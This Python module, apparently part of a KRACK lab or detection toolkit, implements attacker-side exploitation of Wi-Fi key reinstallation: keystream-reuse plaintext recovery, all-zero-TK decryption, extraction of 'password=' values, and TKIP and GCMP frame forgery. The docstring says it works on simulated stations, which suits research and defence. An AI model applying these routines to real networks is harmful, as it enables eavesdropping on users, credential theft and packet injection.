"""What an attacker does with the frames of a station that reinstalled its key.

Everything here works from what the attacker observed on the air plus public knowledge (protocol
layouts, the victim's MAC address, the EAPOL frames it saw in plaintext); nothing reads the simulated
stations' keys or plaintext. The pieces:

* **Keystream reuse.** CCMP, GCMP and TKIP are stream ciphers: two frames from one transmitter with
  the same packet number under the same key share their keystream, so C1 xor C2 = P1 xor P2 and
  a known plaintext for one reveals the other (KRACK paper 6.1). Frames are grouped by PN and by the
  keystream of their first six octets, which every MSDU starts with (LLC/SNAP ``AA AA 03 00 00 00``):
  equal prefixes mean the key was reinstalled, different ones a different key (krack-all-zero-tk.py).
* **Known plaintext** comes from templates: the encrypted EAPOL-Key message 4 (all but the MIC, from
  the plaintext one the attacker saw), the IPv6 link-up messages (MLDv2 report, DAD Neighbor
  Solicitation: fixed by the MAC address), and a DHCP client message (the BOOTP fields but the
  transaction ID). A template only counts when the plaintext it reveals in the
  partner frame is a well-formed MSDU (LLC/SNAP, EtherType, IPv4 header checksum, TKIP ICV).
* **All-zero TK**: a frame that decrypts under a zero key proves it (krackattacks-scripts 1.5).
* **Forgery**: TKIP's Michael is invertible, so one fully decrypted frame gives the transmitter's
  Michael key; GCMP's GHASH key H falls to the "forbidden attack" on two frames sharing a nonce
  (:mod:`krackwatch.lab.gf128`). Either then seals a chosen MSDU with keystream the attacker knows at
  a packet number the receiver has not seen yet.
"""

from __future__ import annotations

import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from krackwatch.crypto import CCMP, GCMP, TKIP, Cipher, DecryptionError
from krackwatch.crypto.gcmp import gcmp_aad
from krackwatch.crypto.tkip import michael, michael_header, michael_recover_key
from krackwatch.lab.gf128 import from_block, ghash, recover_hash_key, to_block
from krackwatch.lab.packets import (
    DHCP_CLIENT_PORT,
    DHCP_SERVER_PORT,
    LLC_SNAP,
    EtherType,
    checksum,
    dhcp,
    ipv4,
    ipv6_dad_ns,
    ipv6_mld_report,
    llc,
)

__all__ = [
    "Partial",
    "Sniffed",
    "Template",
    "dhcp_client_template",
    "eapol_template",
    "find_secret",
    "forge_gcmp",
    "forge_tkip",
    "ipv6_templates",
    "michael_key_from",
    "recover_gcmp_hash_key",
    "recover_plaintexts",
    "reuse_groups",
    "zero_tk_plaintext",
]

_KNOWN_ETHERTYPES = frozenset((0x0800, 0x0806, 0x86DD, 0x888E))
_TKIP_TRAILER = 12  # Michael MIC (8) + ICV (4)


@dataclass(frozen=True, slots=True)
class Sniffed:
    """A protected MPDU the attacker captured from the station under attack.

    ``delivered`` says whether the attacker let it reach the receiver (a man-in-the-middle knows).
    ``ct`` is the encrypted part (CCMP/GCMP: the MSDU ciphertext; TKIP: MSDU, Michael MIC and ICV),
    ``tag`` the CCMP/GCMP MIC (empty for TKIP).
    """

    time: float
    frame: bytes
    pn: int
    cipher: Cipher
    delivered: bool = True

    @property
    def header(self) -> bytes:
        return self.frame[:24]

    @property
    def tag_len(self) -> int:
        c = self.cipher.canonical
        if c is Cipher.TKIP:
            return 0
        return 8 if c is Cipher.CCMP128 else 16

    @property
    def ct(self) -> bytes:
        end = len(self.frame) - self.tag_len
        return self.frame[32:end]

    @property
    def tag(self) -> bytes:
        return self.frame[len(self.frame) - self.tag_len :] if self.tag_len else b""

    @property
    def msdu_len(self) -> int:
        n = len(self.ct)
        return n - _TKIP_TRAILER if self.cipher.canonical is Cipher.TKIP else n

    @property
    def keystream_prefix(self) -> bytes:
        """Keystream of the first six octets: every MSDU starts with AA AA 03 00 00 00."""
        return bytes(a ^ b for a, b in zip(self.ct[:6], LLC_SNAP))


def pn_of(frame: bytes, cipher: Cipher) -> int:
    b = frame[24:32]
    if cipher.canonical is Cipher.TKIP:
        return b[2] | (b[0] << 8) | int.from_bytes(b[4:8], "little") << 16
    return b[0] | (b[1] << 8) | int.from_bytes(b[4:8], "little") << 16


@dataclass(slots=True)
class Partial:
    """Plaintext of an encrypted part, octet by octet known or not."""

    value: bytearray
    known: bytearray  # 1 where ``value`` is known

    @classmethod
    def unknown(cls, n: int) -> Partial:
        return cls(bytearray(n), bytearray(n))

    @property
    def complete(self) -> bool:
        return all(self.known)

    def known_prefix(self) -> int:
        """Number of leading octets known."""
        for i, k in enumerate(self.known):
            if not k:
                return i
        return len(self.known)

    def text(self, start: int = 0, end: int | None = None) -> str:
        """The known octets as text, unknown ones as ``?``."""
        end = len(self.value) if end is None else end
        return "".join(
            (chr(v) if 32 <= v < 127 else ".") if k else "?"
            for v, k in zip(self.value[start:end], self.known[start:end])
        )


@dataclass(frozen=True, slots=True)
class Template:
    """Known plaintext of one kind of frame: the encrypted part's length and which octets are known."""

    name: str
    value: bytes
    known: bytes  # 0/1 per octet

    def partial(self) -> Partial:
        return Partial(bytearray(self.value), bytearray(self.known))


def _template(name: str, msdu: bytes, unknown: Iterable[range], tkip: bool) -> Template:
    value = bytearray(msdu)
    known = bytearray(b"\x01" * len(msdu))
    for r in unknown:
        for i in r:
            known[i] = 0
            value[i] = 0
    if tkip:  # Michael MIC and ICV depend on the key: unknown
        value += bytes(_TKIP_TRAILER)
        known += bytes(_TKIP_TRAILER)
    return Template(name, bytes(value), bytes(known))


def ipv6_templates(mac: bytes, *, tkip: bool) -> list[Template]:
    """The IPv6 link-up messages a station sends on link-up: fixed by its MAC address."""
    return [
        _template("MLDv2 report", llc(EtherType.IPV6, ipv6_mld_report(mac)), (), tkip),
        _template("DAD Neighbor Solicitation", llc(EtherType.IPV6, ipv6_dad_ns(mac)), (), tkip),
    ]


def dhcp_client_template(mac: bytes, *, tkip: bool) -> Template:
    """A DHCP Discover or Request of a client without an address (RFC 2131 4.4.1: from 0.0.0.0 to
    255.255.255.255, IP ID 0): the BOOTP fields but the transaction ID, the magic cookie, the
    Message Type option header and the Client Identifier (hardware type and MAC) are known, and
    the last octets of the 300-octet BOOTP minimum are padding. The UDP checksum covers the
    transaction ID and is unknown."""
    msg = dhcp(1, 0, mac, [(53, b"\x00"), (61, b"\x01" + mac)], pad_to=300)
    udp_len = 8 + len(msg)
    body = bytearray(llc(EtherType.IPV4, ipv4(bytes(4), b"\xff" * 4, 17, bytes(udp_len), ident=0, ttl=128,
                                               df=False)))
    u = 8 + 20
    body[u : u + 6] = (DHCP_CLIENT_PORT.to_bytes(2, "big") + DHCP_SERVER_PORT.to_bytes(2, "big")
                       + udp_len.to_bytes(2, "big"))
    body[u + 8 :] = msg
    opts = u + 8 + 240
    unknown = (range(u + 6, u + 8), range(u + 12, u + 16), range(opts + 2, opts + 3),
               range(opts + 12, len(body) - 6))
    return _template("DHCP client message", bytes(body), unknown, tkip)


def eapol_template(name: str, eapol: bytes, *, tkip: bool) -> Template:
    """An EAPOL-Key frame the attacker can predict except its 16-octet Key MIC (octets 81..97)."""
    msdu = llc(EtherType.EAPOL, eapol)
    return _template(name, msdu, (range(8 + 81, 8 + 97),), tkip)


# --------------------------------------------------------------------------- reuse and recovery


def reuse_groups(frames: Sequence[Sniffed]) -> list[list[int]]:
    """Indices of frames sharing packet number and keystream (a reinstalled key), two or more per
    group, distinct ciphertexts only (a retransmission is not a reuse)."""
    by_key: dict[tuple[int, bytes], list[int]] = {}
    for i, f in enumerate(frames):
        by_key.setdefault((f.pn, f.keystream_prefix), []).append(i)
    groups = []
    for idx in by_key.values():
        distinct = {frames[i].ct for i in idx}
        if len(distinct) > 1:
            groups.append(idx)
    return groups


def _plausible(p: Partial, msdu_len: int, tkip: bool) -> bool:
    """Whether a (partially) recovered plaintext looks like a real MSDU."""
    v, k = p.value, p.known
    if not all(k[:8]):
        return True  # not enough to judge
    if bytes(v[:6]) != LLC_SNAP or int.from_bytes(v[6:8], "big") not in _KNOWN_ETHERTYPES:
        return False
    et = int.from_bytes(v[6:8], "big")
    if et == 0x0800 and msdu_len >= 28 and all(k[8:28]):
        if v[8] != 0x45 or checksum(bytes(v[8:28])) != 0:
            return False
        if int.from_bytes(v[10:12], "big") != msdu_len - 8:
            return False
    if et == 0x86DD and msdu_len >= 48 and all(k[8:14]) and (
            v[8] >> 4 != 6 or int.from_bytes(v[12:14], "big") != msdu_len - 48):
        return False
    if tkip and all(k):
        icv = zlib.crc32(bytes(v[:-4])).to_bytes(4, "little")
        if icv != bytes(v[-4:]):
            return False
    return True


def recover_plaintexts(frames: Sequence[Sniffed], templates: dict[int, list[Template]]) -> dict[int, Partial]:
    """Plaintexts recovered by keystream reuse.

    ``templates`` maps a frame index to the templates that may describe it (the attacker chooses them
    from the frame's length and context). A template is kept only if every partner frame it unlocks
    looks like a well-formed MSDU; known octets spread through each reuse group until nothing changes.
    """
    groups = reuse_groups(frames)
    in_group = {i for g in groups for i in g}
    chosen: dict[int, Template] = {}
    for i, cands in templates.items():
        if i not in in_group:
            continue
        for t in cands:
            if len(t.value) == len(frames[i].ct):
                chosen[i] = t
                break
    while True:
        parts = {i: (chosen[i].partial() if i in chosen else Partial.unknown(len(frames[i].ct))) for i in in_group}
        conflicts: set[int] = set()
        changed = True
        while changed:
            changed = False
            for g in groups:
                for a in g:
                    pa, ca = parts[a], frames[a].ct
                    for b in g:
                        if a == b:
                            continue
                        pb, cb = parts[b], frames[b].ct
                        for j in range(min(len(ca), len(cb))):
                            if pa.known[j]:
                                v = pa.value[j] ^ ca[j] ^ cb[j]
                                if not pb.known[j]:
                                    pb.value[j] = v
                                    pb.known[j] = 1
                                    changed = True
                                elif pb.value[j] != v:
                                    conflicts.update((a, b))
        bad = conflicts | {i for i in in_group
                           if not _plausible(parts[i], frames[i].msdu_len, frames[i].cipher.canonical is Cipher.TKIP)}
        culprits = {i for i in chosen if any(i in g and any(b in bad for b in g) for g in groups)}
        if not bad or not culprits:
            return {i: p for i, p in parts.items() if any(p.known)}
        for i in culprits:  # a wrong guess somewhere in the group: drop those templates and retry
            del chosen[i]


def find_secret(p: Partial, msdu_len: int, marker: bytes = b"password=") -> str | None:
    """The value after ``marker`` up to '&' or the end of the MSDU, when every octet of it is known."""
    raw = bytes(p.value[:msdu_len])
    at = raw.find(marker)
    while at >= 0:
        if all(p.known[at : at + len(marker)]):
            start = at + len(marker)
            end = raw.find(b"&", start)
            end = msdu_len if end < 0 else end
            if end > start and all(p.known[start:end]):
                return raw[start:end].decode("utf-8", "replace")
        at = raw.find(marker, at + 1)
    return None


def zero_tk_plaintext(frame: bytes, cipher: Cipher) -> bytes | None:
    """The MSDU if ``frame`` decrypts under an all-zero TK (with all-zero Michael keys for TKIP)."""
    c = cipher.canonical
    header, body = frame[:24], frame[24:]
    try:
        if c is Cipher.TKIP:
            return TKIP(bytes(32)).decrypt(header, body, michael_key=bytes(8))
        if c in (Cipher.GCMP128, Cipher.GCMP256):
            return GCMP(bytes(cipher.tk_len)).decrypt(header, body)
        return CCMP(bytes(cipher.tk_len)).decrypt(header, body)
    except DecryptionError:
        return None


# --------------------------------------------------------------------------- forgery


def michael_key_from(f: Sniffed, p: Partial) -> bytes | None:
    """The transmitter's Michael key from a fully recovered TKIP frame whose ICV verifies."""
    if f.cipher.canonical is not Cipher.TKIP or not p.complete:
        return None
    v = bytes(p.value)
    msdu, mic, icv = v[:-12], v[-12:-4], v[-4:]
    if zlib.crc32(msdu + mic).to_bytes(4, "little") != icv:
        return None
    return michael_recover_key(michael_header(f.header) + msdu, mic)


def _keystream(f: Sniffed, p: Partial, n: int) -> bytes | None:
    if p.known_prefix() < n:
        return None
    return bytes(a ^ b for a, b in zip(f.ct[:n], p.value[:n]))


def forge_tkip(carrier: Sniffed, p: Partial, michael_key: bytes, header: bytes, msdu: bytes) -> bytes | None:
    """A TKIP MPDU carrying ``msdu`` at the carrier's TSC, sealed with the recovered Michael key and
    the carrier's keystream (RC4 keystream depends only on TK, TA and TSC). None if too little of the
    carrier's plaintext is known."""
    plain = msdu + michael(michael_key, michael_header(header) + msdu)
    plain += zlib.crc32(plain).to_bytes(4, "little")
    ks = _keystream(carrier, p, len(plain))
    if ks is None or header[10:16] != carrier.header[10:16]:
        return None
    return header + carrier.frame[24:32] + bytes(a ^ b for a, b in zip(plain, ks))


def recover_gcmp_hash_key(frames: Sequence[Sniffed]) -> int | None:
    """The GHASH key H from nonce-reusing GCMP frame pairs (one pair per group, shortest first)."""
    pairs = []
    for g in reuse_groups(frames):
        a, b = frames[g[0]], next(frames[i] for i in g[1:] if frames[i].ct != frames[g[0]].ct)
        pairs.append((gcmp_aad(a.header), a.ct, a.tag, gcmp_aad(b.header), b.ct, b.tag))
    pairs.sort(key=lambda q: max(len(q[1]), len(q[4])))
    if len(pairs) < 2:
        return None
    return recover_hash_key(pairs[:4])


def forge_gcmp(carrier: Sniffed, p: Partial, h: int, header: bytes, msdu: bytes) -> bytes | None:
    """A GCMP MPDU carrying ``msdu`` with the carrier's nonce: ciphertext from the carrier's known
    keystream, tag from GHASH under the recovered H plus E_K(J0) = carrier tag + GHASH(carrier)."""
    ks = _keystream(carrier, p, len(msdu))
    if ks is None or header[10:16] != carrier.header[10:16]:
        return None
    ek_j0 = from_block(carrier.tag) ^ ghash(h, gcmp_aad(carrier.header), carrier.ct)
    ct = bytes(a ^ b for a, b in zip(msdu, ks))
    tag = to_block(ghash(h, gcmp_aad(header), ct) ^ ek_j0)
    return header + carrier.frame[24:32] + ct + tag
